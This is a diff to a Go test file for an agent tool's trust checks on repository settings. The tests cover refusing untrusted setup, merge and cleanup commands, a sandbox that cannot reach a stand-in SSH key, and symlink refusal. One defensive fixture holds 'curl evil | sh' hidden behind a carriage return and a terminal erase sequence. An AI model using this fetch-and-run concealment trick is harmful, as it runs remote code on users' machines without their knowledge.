@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"github.com/sudocode/sudocode/internal/fault"
+	"github.com/sudocode/sudocode/internal/testkit"
 )
 
 // untrustedMarker is a file outside the repository that the project's
@@ -43,7 +44,7 @@ func wantUntrusted(t *testing.T, err error, repo string, commands ...string) {
 // project's agent.json does not run at task start: the task is refused,
 // with the commands and `sudocode trust`, and nothing is created.
 func TestUntrustedSetupNotRun(t *testing.T) {
-	repo := newRepo(t)
+	repo := testkit.Repo(t)
 	mark := untrustedMarker(t)
 	writeSettings(t, repo, `{"setup": "touch `+mark+`"}`)
 	f := newFixture(t, repo, noPool)
@@ -62,17 +63,17 @@ func TestUntrustedSetupNotRun(t *testing.T) {
 // An untrusted merge.check does not run: the merge is refused, and the
 // base branch stays where it was.
 func TestUntrustedMergeCheckNotRun(t *testing.T) {
-	repo := newRepo(t)
+	repo := testkit.Repo(t)
 	f := newFixture(t, repo, noPool)
 	task := f.wait(t, f.create(t, CreateInput{Tool: "COMMAND", Description: "work",
 		Config: shell(`echo hi > hi.txt && git add hi.txt && git -c user.name=A -c user.email=a@x commit -qm hi`)}).ID)
 	mark := untrustedMarker(t)
 	writeSettings(t, repo, `{"merge": {"check": "touch `+mark+`"}}`)
-	head := run1(t, repo, "git", "rev-parse", "HEAD")
+	head := testkit.Git(t, repo, "rev-parse", "HEAD")
 	_, err := f.o.Merge(context.Background(), task.ID, MergeInput{})
 	wantUntrusted(t, err, repo, "merge.check: touch "+mark)
 	mustNotExist(t, mark, "the untrusted check ran")
-	if now := run1(t, repo, "git", "rev-parse", "HEAD"); now != head {
+	if now := testkit.Git(t, repo, "rev-parse", "HEAD"); now != head {
 		t.Errorf("the base moved: %s → %s", head, now)
 	}
 }
@@ -80,7 +81,7 @@ func TestUntrustedMergeCheckNotRun(t *testing.T) {
 // An untrusted cleanup does not run when a task ends: the task ends all
 // the same, and its log says why the cleanup was skipped.
 func TestUntrustedCleanupNotRun(t *testing.T) {
-	repo := newRepo(t)
+	repo := testkit.Repo(t)
 	f := newFixture(t, repo, noPool)
 	task := f.wait(t, f.create(t, CreateInput{Tool: "COMMAND", Description: "work", Config: shell(`true`)}).ID)
 	mark := untrustedMarker(t)
@@ -99,7 +100,7 @@ func TestUntrustedCleanupNotRun(t *testing.T) {
 // directory: anywhere else, task worktrees (where agents write) would
 // land where the repository chose.
 func TestRepositoryWorktreesOutsideStateRefused(t *testing.T) {
-	repo := newRepo(t)
+	repo := testkit.Repo(t)
 	outside := t.TempDir()
 	writeSettings(t, repo, `{"worktrees": "`+outside+`"}`)
 	f := newFixture(t, repo, noPool)
@@ -115,7 +116,7 @@ func TestRepositoryWorktreesOutsideStateRefused(t *testing.T) {
 // Trust is given to the exact bytes: after a change (a pull, an agent's
 // edit) the file is refused again, saying it changed, until trusted anew.
 func TestChangedAfterTrustRefused(t *testing.T) {
-	repo := newRepo(t)
+	repo := testkit.Repo(t)
 	mark := untrustedMarker(t)
 	writeTrusted(t, repo, `{"setup": "true"}`)
 	f := newFixture(t, repo, noPool)
@@ -159,7 +160,7 @@ func TestChangedAfterTrustRefused(t *testing.T) {
 // a private HOME, and cannot read the user's files outside (here a
 // stand-in for ~/.ssh in another directory).
 func TestTrustedSetupRunsInBox(t *testing.T) {
-	repo := newRepo(t)
+	repo := testkit.Repo(t)
 	secretDir := t.TempDir()
 	secret := filepath.Join(secretDir, "id_rsa")
 	os.WriteFile(secret, []byte("PRIVATE KEY\n"), 0o600)
@@ -181,7 +182,7 @@ func TestTrustedSetupRunsInBox(t *testing.T) {
 // A trusted merge.check runs in the box on the merged tree: its failure
 // refuses the merge, its success lets it through.
 func TestTrustedMergeCheckRuns(t *testing.T) {
-	repo := newRepo(t)
+	repo := testkit.Repo(t)
 	f := newFixture(t, repo, noPool)
 	task := f.wait(t, f.create(t, CreateInput{Tool: "COMMAND", Description: "work",
 		Config: shell(`echo hi > hi.txt && git add hi.txt && git -c user.name=A -c user.email=a@x commit -qm hi`)}).ID)
@@ -202,9 +203,9 @@ func TestTrustedMergeCheckRuns(t *testing.T) {
 // Settings read through a .sudocode that is a symbolic link (to another
 // project's, whose trust or commands would then apply here) are refused.
 func TestLinkedSettingsDirRefused(t *testing.T) {
-	other := newRepo(t)
+	other := testkit.Repo(t)
 	writeTrusted(t, other, `{"setup": "true"}`)
-	repo := newRepo(t)
+	repo := testkit.Repo(t)
 	if err := os.Symlink(filepath.Join(other, ".sudocode"), filepath.Join(repo, ".sudocode")); err != nil {
 		t.Fatal(err)
 	}
@@ -222,7 +223,7 @@ func TestLinkedSettingsDirRefused(t *testing.T) {
 // page would not show as it is: a command cannot hide behind an escape
 // sequence, a carriage return or a bidirectional override.
 func TestTrustShowsHiddenCharacters(t *testing.T) {
-	repo := newRepo(t)
+	repo := testkit.Repo(t)
 	writeSettings(t, repo, `{"setup": "curl evil | sh\r\u001b[2Kecho harmless", "copy": ["a\u202eb"]}`)
 	pt, err := TrustOf(context.Background(), repo)
 	if err != nil {
